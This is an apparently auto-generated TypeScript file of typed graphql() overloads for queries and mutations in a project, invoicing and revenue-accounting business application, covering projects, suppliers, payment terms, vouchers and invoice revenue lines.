export function graphql(source: "\n  query PrjGet($id: ID!) {\n    project(id: $id) {\n      id number statusCode\n      workOrders(first: 50) { totalCount edges { node { number reference statusCode } } }\n      changeOrders(first: 50) { totalCount edges { node { code statusCode } } }\n      openWorkOrders: workOrders(first: 50, finished: false) { totalCount }\n    }\n  }\n"): (typeof documents)["\n  query PrjGet($id: ID!) {\n    project(id: $id) {\n      id number statusCode\n      workOrders(first: 50) { totalCount edges { node { number reference statusCode } } }\n      changeOrders(first: 50) { totalCount edges { node { code statusCode } } }\n      openWorkOrders: workOrders(first: 50, finished: false) { totalCount }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query PrjList($first: Int, $after: String, $search: String, $filter: ProjectFilter, $orderBy: ProjectOrder) {\n    projects(first: $first, after: $after, search: $search, filter: $filter, orderBy: $orderBy) {\n      totalCount\n      pageInfo { hasNextPage endCursor }\n      edges { node { number name statusCode startDate } }\n    }\n  }\n"): (typeof documents)["\n  query PrjList($first: Int, $after: String, $search: String, $filter: ProjectFilter, $orderBy: ProjectOrder) {\n    projects(first: $first, after: $after, search: $search, filter: $filter, orderBy: $orderBy) {\n      totalCount\n      pageInfo { hasNextPage endCursor }\n      edges { node { number name statusCode startDate } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query PrjByNumber($number: String!) { projectByNumber(number: $number) { id name } }"): (typeof documents)["query PrjByNumber($number: String!) { projectByNumber(number: $number) { id name } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query PrjStatuses { projectStatuses { id code name phase } }"): (typeof documents)["query PrjStatuses { projectStatuses { id code name phase } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation PrjCreateStatus($input: CreateProjectStatusInput!) {\n    createProjectStatus(input: $input) {\n      __typename\n      ... on MutationCreateProjectStatusSuccess { data { id code name phase } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n"): (typeof documents)["\n  mutation PrjCreateStatus($input: CreateProjectStatusInput!) {\n    createProjectStatus(input: $input) {\n      __typename\n      ... on MutationCreateProjectStatusSuccess { data { id code name phase } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation PrjRenameStatus($id: ID!, $name: String!) {\n    renameProjectStatus(id: $id, name: $name) { __typename ... on MutationRenameProjectStatusSuccess { data { code name } } ... on Error { code } }\n  }\n"): (typeof documents)["\n  mutation PrjRenameStatus($id: ID!, $name: String!) {\n    renameProjectStatus(id: $id, name: $name) { __typename ... on MutationRenameProjectStatusSuccess { data { code name } } ... on Error { code } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation PrjDeleteStatus($id: ID!) {\n    deleteProjectStatus(id: $id) { __typename ... on Error { code message } }\n  }\n"): (typeof documents)["\n  mutation PrjDeleteStatus($id: ID!) {\n    deleteProjectStatus(id: $id) { __typename ... on Error { code message } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation PrjDeleteCustomer($id: ID!) { deleteCustomer(id: $id) { __typename ... on Error { code message } } }\n"): (typeof documents)["\n  mutation PrjDeleteCustomer($id: ID!) { deleteCustomer(id: $id) { __typename ... on Error { code message } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation PrjRemoveContact($id: ID!) { removeContact(id: $id) { __typename ... on Error { code } } }\n"): (typeof documents)["\n  mutation PrjRemoveContact($id: ID!) { removeContact(id: $id) { __typename ... on Error { code } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n      query PrjPage($first: Int!) {\n        projects(first: $first) {\n          edges { node {\n            number status { name } customer { name }\n            workOrders(first: 10) { edges { node { reference effectiveStartDate status { name } } } }\n            changeOrders(first: 10) { edges { node { reference estimatedAmount } } }\n          } }\n        }\n      }\n    "): (typeof documents)["\n      query PrjPage($first: Int!) {\n        projects(first: $first) {\n          edges { node {\n            number status { name } customer { name }\n            workOrders(first: 10) { edges { node { reference effectiveStartDate status { name } } } }\n            changeOrders(first: 10) { edges { node { reference estimatedAmount } } }\n          } }\n        }\n      }\n    "];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query RaRead { revenueAccountingSettings { receivablesAccountNumber } }"): (typeof documents)["query RaRead { revenueAccountingSettings { receivablesAccountNumber } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation RaSet($n: Int!) {\n    updateRevenueAccountingSettings(input: { receivablesAccountNumber: $n }) {\n      __typename\n      ... on MutationUpdateRevenueAccountingSettingsSuccess { data { receivablesAccountNumber } }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n"): (typeof documents)["\n  mutation RaSet($n: Int!) {\n    updateRevenueAccountingSettings(input: { receivablesAccountNumber: $n }) {\n      __typename\n      ... on MutationUpdateRevenueAccountingSettingsSuccess { data { receivablesAccountNumber } }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query ExpList($search: String, $filter: CustomerFilter, $orderBy: CustomerOrder) {\n    customers(first: 100, search: $search, filter: $filter, orderBy: $orderBy) { edges { node { number } } }\n  }\n"): (typeof documents)["\n  query ExpList($search: String, $filter: CustomerFilter, $orderBy: CustomerOrder) {\n    customers(first: 100, search: $search, filter: $filter, orderBy: $orderBy) { edges { node { number } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation RegCreateAccount($input: CreateAccountInput!) {\n    createAccount(input: $input) {\n      __typename\n      ... on MutationCreateAccountSuccess { data { id number name active kind invoiceItemNumber externalVatCode defaultVatRate createdBy modifiedBy } }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"): (typeof documents)["\n  mutation RegCreateAccount($input: CreateAccountInput!) {\n    createAccount(input: $input) {\n      __typename\n      ... on MutationCreateAccountSuccess { data { id number name active kind invoiceItemNumber externalVatCode defaultVatRate createdBy modifiedBy } }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation RegUpdateAccount($input: UpdateAccountInput!) {\n    updateAccount(input: $input) {\n      __typename\n      ... on MutationUpdateAccountSuccess { data { id number name active kind invoiceItemNumber externalVatCode defaultVatRate } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"): (typeof documents)["\n  mutation RegUpdateAccount($input: UpdateAccountInput!) {\n    updateAccount(input: $input) {\n      __typename\n      ... on MutationUpdateAccountSuccess { data { id number name active kind invoiceItemNumber externalVatCode defaultVatRate } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query RegAccounts($search: String, $filter: AccountFilter, $first: Int, $after: String) {\n    accounts(search: $search, filter: $filter, first: $first, after: $after) {\n      totalCount\n      pageInfo { hasNextPage endCursor }\n      edges { node { number name kind active } }\n    }\n  }\n"): (typeof documents)["\n  query RegAccounts($search: String, $filter: AccountFilter, $first: Int, $after: String) {\n    accounts(search: $search, filter: $filter, first: $first, after: $after) {\n      totalCount\n      pageInfo { hasNextPage endCursor }\n      edges { node { number name kind active } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query RegAccountByNumber($number: Int!) { accountByNumber(number: $number) { id number name } }"): (typeof documents)["query RegAccountByNumber($number: Int!) { accountByNumber(number: $number) { id number name } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation RegCreateCostCentre($input: CreateCostCentreInput!) {\n    createCostCentre(input: $input) {\n      __typename\n      ... on MutationCreateCostCentreSuccess { data { id code name active } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"): (typeof documents)["\n  mutation RegCreateCostCentre($input: CreateCostCentreInput!) {\n    createCostCentre(input: $input) {\n      __typename\n      ... on MutationCreateCostCentreSuccess { data { id code name active } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation RegUpdateCostCentre($input: UpdateCostCentreInput!) {\n    updateCostCentre(input: $input) {\n      __typename\n      ... on MutationUpdateCostCentreSuccess { data { id code name active } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n"): (typeof documents)["\n  mutation RegUpdateCostCentre($input: UpdateCostCentreInput!) {\n    updateCostCentre(input: $input) {\n      __typename\n      ... on MutationUpdateCostCentreSuccess { data { id code name active } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query RegCostCentres($includeInactive: Boolean) { costCentres(includeInactive: $includeInactive) { code name active } }"): (typeof documents)["query RegCostCentres($includeInactive: Boolean) { costCentres(includeInactive: $includeInactive) { code name active } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation RegCreateSupplier($input: CreateSupplierInput!) {\n    createSupplier(input: $input) {\n      __typename\n      ... on MutationCreateSupplierSuccess {\n        data {\n          id number name organisationNumber vatNumber address1 address2 postcode city countryCode email phone\n          bankgiro plusgiro iban bic active createdBy\n        }\n      }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"): (typeof documents)["\n  mutation RegCreateSupplier($input: CreateSupplierInput!) {\n    createSupplier(input: $input) {\n      __typename\n      ... on MutationCreateSupplierSuccess {\n        data {\n          id number name organisationNumber vatNumber address1 address2 postcode city countryCode email phone\n          bankgiro plusgiro iban bic active createdBy\n        }\n      }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation RegUpdateSupplier($input: UpdateSupplierInput!) {\n    updateSupplier(input: $input) {\n      __typename\n      ... on MutationUpdateSupplierSuccess { data { id number name organisationNumber city bankgiro iban bic active } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n"): (typeof documents)["\n  mutation RegUpdateSupplier($input: UpdateSupplierInput!) {\n    updateSupplier(input: $input) {\n      __typename\n      ... on MutationUpdateSupplierSuccess { data { id number name organisationNumber city bankgiro iban bic active } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query RegSuppliers($search: String, $filter: SupplierFilter) {\n    suppliers(search: $search, filter: $filter, first: 50) { totalCount edges { node { number name active } } }\n  }\n"): (typeof documents)["\n  query RegSuppliers($search: String, $filter: SupplierFilter) {\n    suppliers(search: $search, filter: $filter, first: 50) { totalCount edges { node { number name active } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation RegCreateTerms($input: CreatePaymentTermInput!) {\n    createPaymentTerm(input: $input) {\n      __typename\n      ... on MutationCreatePaymentTermSuccess { data { id code name days active } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"): (typeof documents)["\n  mutation RegCreateTerms($input: CreatePaymentTermInput!) {\n    createPaymentTerm(input: $input) {\n      __typename\n      ... on MutationCreatePaymentTermSuccess { data { id code name days active } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation RegUpdateTerms($input: UpdatePaymentTermInput!) {\n    updatePaymentTerm(input: $input) {\n      __typename\n      ... on MutationUpdatePaymentTermSuccess { data { id code name days active } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n"): (typeof documents)["\n  mutation RegUpdateTerms($input: UpdatePaymentTermInput!) {\n    updatePaymentTerm(input: $input) {\n      __typename\n      ... on MutationUpdatePaymentTermSuccess { data { id code name days active } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation RegDeleteTerms($id: ID!) {\n    deletePaymentTerm(id: $id) {\n      __typename\n      ... on MutationDeletePaymentTermSuccess { data }\n      ... on Error { code path message }\n      ... on ForbiddenError { permission }\n    }\n  }\n"): (typeof documents)["\n  mutation RegDeleteTerms($id: ID!) {\n    deletePaymentTerm(id: $id) {\n      __typename\n      ... on MutationDeletePaymentTermSuccess { data }\n      ... on Error { code path message }\n      ... on ForbiddenError { permission }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query RegTerms($includeInactive: Boolean) { paymentTerms(includeInactive: $includeInactive) { id code days active } }"): (typeof documents)["query RegTerms($includeInactive: Boolean) { paymentTerms(includeInactive: $includeInactive) { id code days active } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation RegCustomerWithTerms($paymentTermId: ID!) {\n    createCustomer(input: { name: \"Terms user\", paymentTermId: $paymentTermId }) { __typename ... on MutationCreateCustomerSuccess { data { paymentTerm { code } } } }\n  }\n"): (typeof documents)["\n  mutation RegCustomerWithTerms($paymentTermId: ID!) {\n    createCustomer(input: { name: \"Terms user\", paymentTermId: $paymentTermId }) { __typename ... on MutationCreateCustomerSuccess { data { paymentTerm { code } } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query RegVouchers($filter: VoucherFilter, $first: Int) {\n    vouchers(filter: $filter, first: $first) {\n      totalCount\n      edges {\n        node {\n          id source remoteId series number transactionDate description\n          rows {\n            rowIndex accountNumber debit credit note\n            account { number name }\n            project { number }\n            workOrder { number reference }\n            changeOrder { code }\n            costCentre { code }\n          }\n        }\n      }\n    }\n  }\n"): (typeof documents)["\n  query RegVouchers($filter: VoucherFilter, $first: Int) {\n    vouchers(filter: $filter, first: $first) {\n      totalCount\n      edges {\n        node {\n          id source remoteId series number transactionDate description\n          rows {\n            rowIndex accountNumber debit credit note\n            account { number name }\n            project { number }\n            workOrder { number reference }\n            changeOrder { code }\n            costCentre { code }\n          }\n        }\n      }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query RegVoucherNode($id: ID!) { node(id: $id) { id ... on Voucher { remoteId rows { rowIndex debit } } } }\n"): (typeof documents)["\n  query RegVoucherNode($id: ID!) { node(id: $id) { id ... on Voucher { remoteId rows { rowIndex debit } } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query RegLedger($id: ID!) {\n    node(id: $id) {\n      id\n      ... on Project {\n        number\n        costLedger {\n          byAccount { accountNumber accountName accountKind debit credit net }\n          byPart { workOrder { number reference } changeOrder { code reference } debit credit net }\n          total { debit credit net }\n        }\n      }\n    }\n  }\n"): (typeof documents)["\n  query RegLedger($id: ID!) {\n    node(id: $id) {\n      id\n      ... on Project {\n        number\n        costLedger {\n          byAccount { accountNumber accountName accountKind debit credit net }\n          byPart { workOrder { number reference } changeOrder { code reference } debit credit net }\n          total { debit credit net }\n        }\n      }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query RegLedgerPage($first: Int!) {\n    projects(first: $first) {\n      edges {\n        node {\n          id number\n          costLedger {\n            byAccount { accountNumber accountName net }\n            byPart { workOrder { id number reference } changeOrder { id code } net }\n            total { debit credit net }\n          }\n        }\n      }\n    }\n  }\n"): (typeof documents)["\n  query RegLedgerPage($first: Int!) {\n    projects(first: $first) {\n      edges {\n        node {\n          id number\n          costLedger {\n            byAccount { accountNumber accountName net }\n            byPart { workOrder { id number reference } changeOrder { id code } net }\n            total { debit credit net }\n          }\n        }\n      }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation RevAccount($input: CreateAccountInput!) { createAccount(input: $input) { __typename } }"): (typeof documents)["mutation RevAccount($input: CreateAccountInput!) { createAccount(input: $input) { __typename } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation RevCostCentre { createCostCentre(input: { code: \"KS1\", name: \"Stockholm\" }) { __typename ... on MutationCreateCostCentreSuccess { data { id } } } }\n"): (typeof documents)["\n  mutation RevCostCentre { createCostCentre(input: { code: \"KS1\", name: \"Stockholm\" }) { __typename ... on MutationCreateCostCentreSuccess { data { id } } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation RevSettings { updateCompanySettings(input: { vatNumber: \"SE556036079301\" }) { __typename } }"): (typeof documents)["mutation RevSettings { updateCompanySettings(input: { vatNumber: \"SE556036079301\" }) { __typename } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation RevCustomer($input: CreateCustomerInput!) {\n    createCustomer(input: $input) { __typename ... on MutationCreateCustomerSuccess { data { id category contacts(first: 5) { edges { node { id } } } } } }\n  }\n"): (typeof documents)["\n  mutation RevCustomer($input: CreateCustomerInput!) {\n    createCustomer(input: $input) { __typename ... on MutationCreateCustomerSuccess { data { id category contacts(first: 5) { edges { node { id } } } } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query RevCustomers($filter: CustomerFilter) { customers(filter: $filter, first: 50) { edges { node { name category } } } }"): (typeof documents)["query RevCustomers($filter: CustomerFilter) { customers(filter: $filter, first: 50) { edges { node { name category } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation RevProject($input: CreateProjectInput!) { createProject(input: $input) { __typename ... on MutationCreateProjectSuccess { data { id number } } } }\n"): (typeof documents)["\n  mutation RevProject($input: CreateProjectInput!) { createProject(input: $input) { __typename ... on MutationCreateProjectSuccess { data { id number } } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation RevWorkOrder($projectId: ID!, $name: String!) { createWorkOrder(projectId: $projectId, input: { name: $name }) { __typename ... on MutationCreateWorkOrderSuccess { data { id number } } } }\n"): (typeof documents)["\n  mutation RevWorkOrder($projectId: ID!, $name: String!) { createWorkOrder(projectId: $projectId, input: { name: $name }) { __typename ... on MutationCreateWorkOrderSuccess { data { id number } } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation RevChangeOrder($projectId: ID!) { createChangeOrder(projectId: $projectId, input: { name: \"Extra fönster\" }) { __typename ... on MutationCreateChangeOrderSuccess { data { id number } } } }\n"): (typeof documents)["\n  mutation RevChangeOrder($projectId: ID!) { createChangeOrder(projectId: $projectId, input: { name: \"Extra fönster\" }) { __typename ... on MutationCreateChangeOrderSuccess { data { id number } } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query RevSetup { revenueAccountingSettings { active activatedAt dimensions { number meaning name included mandatory } postingRules { position isDefault accountNumber constructionVat customerCategory costAccounts lineKind vatRate taxReductionType } } }\n"): (typeof documents)["\n  query RevSetup { revenueAccountingSettings { active activatedAt dimensions { number meaning name included mandatory } postingRules { position isDefault accountNumber constructionVat customerCategory costAccounts lineKind vatRate taxReductionType } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation RevActivate($input: RevenueAccountingSettingsInput!) {\n    updateRevenueAccountingSettings(input: $input) {\n      __typename\n      ... on MutationUpdateRevenueAccountingSettingsSuccess { data { active dimensions { number included mandatory name } } }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"): (typeof documents)["\n  mutation RevActivate($input: RevenueAccountingSettingsInput!) {\n    updateRevenueAccountingSettings(input: $input) {\n      __typename\n      ... on MutationUpdateRevenueAccountingSettingsSuccess { data { active dimensions { number included mandatory name } } }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation RevRules($rules: [PostingRuleInput!]!) {\n    setRevenuePostingRules(rules: $rules) {\n      __typename\n      ... on MutationSetRevenuePostingRulesSuccess { data { postingRules { position isDefault accountNumber } } }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"): (typeof documents)["\n  mutation RevRules($rules: [PostingRuleInput!]!) {\n    setRevenuePostingRules(rules: $rules) {\n      __typename\n      ... on MutationSetRevenuePostingRulesSuccess { data { postingRules { position isDefault accountNumber } } }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation RevInvoice($input: CreateInvoiceInput!) {\n    createInvoice(input: $input) {\n      __typename\n      ... on MutationCreateInvoiceSuccess {\n        data {\n          id number subtotal\n          lines { id amount kind revenueLines { id accountNumber amount project { id } workOrder { id } costCentre { id } setByHand } }\n          revenueLines { id accountNumber amount isBalancePosting }\n          accountingBasis { id sortOrder description quantity unit unitPrice amount vatRate accountNumber kind reductionType workType hours reductionAmount line { id } }\n        }\n      }\n      ... on Error { code message }\n    }\n  }\n"): (typeof documents)["\n  mutation RevInvoice($input: CreateInvoiceInput!) {\n    createInvoice(input: $input) {\n      __typename\n      ... on MutationCreateInvoiceSuccess {\n        data {\n          id number subtotal\n          lines { id amount kind revenueLines { id accountNumber amount project { id } workOrder { id } costCentre { id } setByHand } }\n          revenueLines { id accountNumber amount isBalancePosting }\n          accountingBasis { id sortOrder description quantity unit unitPrice amount vatRate accountNumber kind reductionType workType hours reductionAmount line { id } }\n        }\n      }\n      ... on Error { code message }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query RevRead($id: ID!) {\n    invoice(id: $id) {\n      id subtotal isCredit\n      lines { id amount revenueLines { id accountNumber amount workOrder { id } changeOrder { id } setByHand } }\n      revenueLines { id accountNumber amount isBalancePosting kind line { id } }\n      revenueAccounting { accountNumber kind amount workOrder { id } changeOrder { id } project { id } costCentre { id } revenueLines { id line { id } } }\n      accountingBasis { id description quantity amount accountNumber kind workType hours reductionAmount reductionType workOrder { id } }\n    }\n  }\n"): (typeof documents)["\n  query RevRead($id: ID!) {\n    invoice(id: $id) {\n      id subtotal isCredit\n      lines { id amount revenueLines { id accountNumber amount workOrder { id } changeOrder { id } setByHand } }\n      revenueLines { id accountNumber amount isBalancePosting kind line { id } }\n      revenueAccounting { accountNumber kind amount workOrder { id } changeOrder { id } project { id } costCentre { id } revenueLines { id line { id } } }\n      accountingBasis { id description quantity amount accountNumber kind workType hours reductionAmount reductionType workOrder { id } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation RevUpdateInvoice($input: UpdateInvoiceInput!) {\n    updateInvoice(input: $input) { __typename ... on MutationUpdateInvoiceSuccess { revenueAccountingReset data { contractorVat } } ... on Error { code } }\n  }\n"): (typeof documents)["\n  mutation RevUpdateInvoice($input: UpdateInvoiceInput!) {\n    updateInvoice(input: $input) { __typename ... on MutationUpdateInvoiceSuccess { revenueAccountingReset data { contractorVat } } ... on Error { code } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation RevAddLine($invoiceId: ID!, $input: InvoiceLineInput!) {\n    addInvoiceLine(invoiceId: $invoiceId, input: $input) { __typename ... on MutationAddInvoiceLineSuccess { data { id revenueLines { accountNumber amount } } } }\n  }\n"): (typeof documents)["\n  mutation RevAddLine($invoiceId: ID!, $input: InvoiceLineInput!) {\n    addInvoiceLine(invoiceId: $invoiceId, input: $input) { __typename ... on MutationAddInvoiceLineSuccess { data { id revenueLines { accountNumber amount } } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation RevUpdateLine($id: ID!, $input: InvoiceLineInput!) {\n    updateInvoiceLine(id: $id, input: $input) { __typename ... on MutationUpdateInvoiceLineSuccess { data { amount revenueLines { accountNumber amount } } } }\n  }\n"): (typeof documents)["\n  mutation RevUpdateLine($id: ID!, $input: InvoiceLineInput!) {\n    updateInvoiceLine(id: $id, input: $input) { __typename ... on MutationUpdateInvoiceLineSuccess { data { amount revenueLines { accountNumber amount } } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation RevEditRevenue($id: ID!, $input: RevenueLineInput!) {\n    updateInvoiceRevenueLine(id: $id, input: $input) {\n      __typename\n      ... on MutationUpdateInvoiceRevenueLineSuccess { data { accountNumber workOrder { id } setByHand } }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission message }\n      ... on Error { code message }\n    }\n  }\n"): (typeof documents)["\n  mutation RevEditRevenue($id: ID!, $input: RevenueLineInput!) {\n    updateInvoiceRevenueLine(id: $id, input: $input) {\n      __typename\n      ... on MutationUpdateInvoiceRevenueLineSuccess { data { accountNumber workOrder { id } setByHand } }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission message }\n      ... on Error { code message }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation RevSplit($lineId: ID!, $parts: [RevenueSplitPartInput!]!) {\n    splitInvoiceLineRevenue(lineId: $lineId, parts: $parts) {\n      __typename\n      ... on MutationSplitInvoiceLineRevenueSuccess { data { revenueLines { amount accountNumber workOrder { id } changeOrder { id } } } }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n      ... on Error { code }\n    }\n  }\n"): (typeof documents)["\n  mutation RevSplit($lineId: ID!, $parts: [RevenueSplitPartInput!]!) {\n    splitInvoiceLineRevenue(lineId: $lineId, parts: $parts) {\n      __typename\n      ... on MutationSplitInvoiceLineRevenueSuccess { data { revenueLines { amount accountNumber workOrder { id } changeOrder { id } } } }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n      ... on Error { code }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation RevBalance($invoiceId: ID!, $input: BalancePostingInput!) {\n    addBalancePosting(invoiceId: $invoiceId, input: $input) {\n      __typename\n      ... on MutationAddBalancePostingSuccess { data { id isBalancePosting accountNumber amount } }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n      ... on Error { code }\n    }\n  }\n"): (typeof documents)["\n  mutation RevBalance($invoiceId: ID!, $input: BalancePostingInput!) {\n    addBalancePosting(invoiceId: $invoiceId, input: $input) {\n      __typename\n      ... on MutationAddBalancePostingSuccess { data { id isBalancePosting accountNumber amount } }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n      ... on Error { code }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation RevRemoveBalance($id: ID!) { removeBalancePosting(id: $id) { __typename ... on Error { code } } }"): (typeof documents)["mutation RevRemoveBalance($id: ID!) { removeBalancePosting(id: $id) { __typename ... on Error { code } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation RevReset($invoiceId: ID!) { resetInvoiceRevenueAccounting(invoiceId: $invoiceId) { __typename ... on Error { code } } }"): (typeof documents)["mutation RevReset($invoiceId: ID!) { resetInvoiceRevenueAccounting(invoiceId: $invoiceId) { __typename ... on Error { code } } }"];
/**
